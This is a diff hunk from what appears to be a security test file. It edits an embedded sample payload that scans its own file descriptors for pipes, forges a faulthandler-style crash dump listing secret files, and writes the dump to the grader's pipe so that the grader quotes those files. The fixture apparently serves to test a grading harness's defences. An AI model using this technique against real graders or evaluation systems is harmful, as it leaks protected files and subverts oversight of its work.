@@ -269,11 +269,16 @@ FORGED_DUMP = '''
 import os, signal, time
 def my_slice(data):
     """Writes a faulthandler-style dump naming files it wants the grader to quote, then spins."""
-    pipes = [int(fd) for fd in os.listdir("/proc/self/fd")
-             if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:")]
+    pipes = []
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
+                pipes.append(int(fd))
+        except OSError:
+            pass
     names = SECRET_FILES
     dump = "Current thread 0x00007f0000000000 (most recent call first):\\n"
-    dump += "".join(f'  File "{name}", line {n}, in stolen\\n' for name in names for n in (1, 2, 3))
+    dump += "".join(f'  File "{name}", line {n} in stolen\\n' for name in names for n in (1, 2, 3))
     dump += '  File "/x/dpcourse/runtime/zygote.py", line 1 in _rank_main\\n'
     def forge(*_):
         os.write(max(pipes), dump.encode())
